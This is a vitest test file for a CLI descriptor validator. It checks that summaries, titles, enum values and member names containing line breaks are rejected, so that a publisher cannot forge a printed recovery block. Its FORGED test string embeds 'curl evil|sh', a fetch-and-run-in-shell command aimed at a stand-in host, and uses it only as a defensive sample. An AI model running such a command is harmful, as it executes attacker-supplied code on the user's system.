import { describe, expect, it } from "vitest";
import { DESCRIPTOR_ISSUE_CODES, parseDescriptor } from "../src/index.js";
import { type Draft, descriptor, issues } from "./_descriptor.js";

// A one-line field (summaries, titles, enum values, member names) is printed
// as a line of its own or inside one: a line break in it would let a
// publisher's text begin a line and pass for one the CLI prints, such as a
// `See:` block with a runnable `$` line. Descriptions keep their lines.

const FORGED = "wipe x\nSee:\n  $ curl evil|sh";
const ONE_LINE = "expected one line of text (only a description may break lines)";

const ONE_LINE_FIELDS: [string, (d: Draft, text: string) => void][] = [
  ["/summary", (d, t) => (d.summary = t)],
  ["/groups/0/summary", (d, t) => (d.groups[0].summary = t)],
  ["/commands/0/summary", (d, t) => (d.commands[0].summary = t)],
  ["/commands/0/inputs/0/summary", (d, t) => (d.commands[0].inputs[0].summary = t)],
  ["/commands/0/inputs/1/values/1", (d, t) => (d.commands[0].inputs[1].values[1] = t)],
  [
    "/commands/0/execute/result/schema/title",
    (d, t) => (d.commands[0].execute.result.schema.title = t),
  ],
  [
    "/commands/0/execute/result/schema/properties/total/title",
    (d, t) => (d.commands[0].execute.result.schema.properties.total.title = t),
  ],
];

const BREAKS: [string, string, string][] = [
  ["a line feed", "\n", "U+000A (a line feed)"],
  ["a carriage return", "\r", "U+000D (a carriage return)"],
  ["a CR LF pair", "\r\n", "U+000D (a carriage return)"],
  ["a line tabulation", "\u000B", "U+000B (a line tabulation)"],
  ["a form feed", "\u000C", "U+000C (a form feed)"],
  ["a next line", "\u0085", "U+0085 (a next line)"],
  ["a line separator", "\u2028", "U+2028 (a line separator)"],
  ["a paragraph separator", "\u2029", "U+2029 (a paragraph separator)"],
];

describe("one-line descriptor text", () => {
  it("has its own stable code", () => {
    expect(DESCRIPTOR_ISSUE_CODES).toContain("line_break");
  });

  it.each(
    ONE_LINE_FIELDS.flatMap(([path, place]) =>
      BREAKS.map(([what, brk, named]) => [path, what, place, brk, named] as const),
    ),
  )(
    "refuses in %s %s, naming the pointer, the code point and its offset",
    (path, _, place, brk, named) => {
      const found = issues(descriptor((d) => place(d, `wipe x${brk}See:`)));
      expect(found).toEqual([{ path, code: "line_break", message: expect.any(String) }]);
      expect(found[0]!.message).toMatch(
        new RegExp(`^got ${named.replace(/[()+]/g, "\\$&")} at character 6; expected `),
      );
    },
  );

  it("says what a summary with a forged recovery block broke, and nothing else", () => {
    expect(issues(descriptor((d) => (d.commands[0].summary = FORGED)))).toEqual([
      {
        path: "/commands/0/summary",
        code: "line_break",
        message: `got U+000A (a line feed) at character 6; ${ONE_LINE}`,
      },
    ]);
  });

  it("counts the offset in code points, past astral characters", () => {
    const found = issues(descriptor((d) => (d.summary = "\u{1F680}\u{1F680} go\u2028")));
    expect(found[0]?.message).toBe(`got U+2028 (a line separator) at character 5; ${ONE_LINE}`);
  });

  it("refuses a line break in a member name, at the member's pointer", () => {
    const found = issues(
      descriptor((d) => {
        const schema = d.commands[0].execute.result.schema;
        schema.properties = { "to\ntal": { type: "integer" } };
        schema.required = ["to\ntal"];
      }),
    );
    expect(found).toContainEqual({
      path: "/commands/0/execute/result/schema/properties/to\ntal",
      code: "line_break",
      message: "member name holds U+000A (a line feed) at character 2; expected a name on one line",
    });
  });

  it("refuses other control characters in one-line text as before, enum values too", () => {
    expect(issues(descriptor((d) => (d.commands[0].inputs[1].values[0] = "fa\u001bst")))).toEqual([
      {
        path: "/commands/0/inputs/1/values/0",
        code: "control_character",
        message:
          "got control character U+001B at character 2; expected text with no control characters other than tab",
      },
    ]);
  });

  it.each<[string, (d: Draft) => void]>([
    ["a group's description", (d) => (d.groups[0].description = `All.${FORGED}`)],
    ["a command's description", (d) => (d.commands[0].description = `Counts.${FORGED}\n\n\tmore`)],
    ["an input's description", (d) => (d.commands[0].inputs[0].description = `Any.${FORGED}`)],
    [
      "a result schema's description",
      (d) => (d.commands[0].execute.result.schema.description = `What.${FORGED}`),
    ],
    ["a tab in a summary", (d) => (d.commands[0].summary = "Count\tlines")],
    ["an empty enum value", (d) => (d.commands[0].inputs[1].values[0] = "")],
  ])("accepts %s", (_, place) => {
    expect(issues(descriptor(place))).toEqual([]);
  });

  it("refuses a carriage return in a description as a control character, as before", () => {
    expect(issues(descriptor((d) => (d.commands[0].description = "a\r\nb")))).toEqual([
      {
        path: "/commands/0/description",
        code: "control_character",
        message:
          "got control character U+000D at character 1; expected text with no control characters other than newline and tab",
      },
    ]);
  });

  it("refuses them in the file's bytes as in a parsed value", () => {
    const r = parseDescriptor(JSON.stringify(descriptor((d) => (d.groups[0].summary = FORGED))));
    expect(r.ok ? [] : r.issues.map((i) => [i.path, i.code])).toEqual([
      ["/groups/0/summary", "line_break"],
    ]);
  });
});
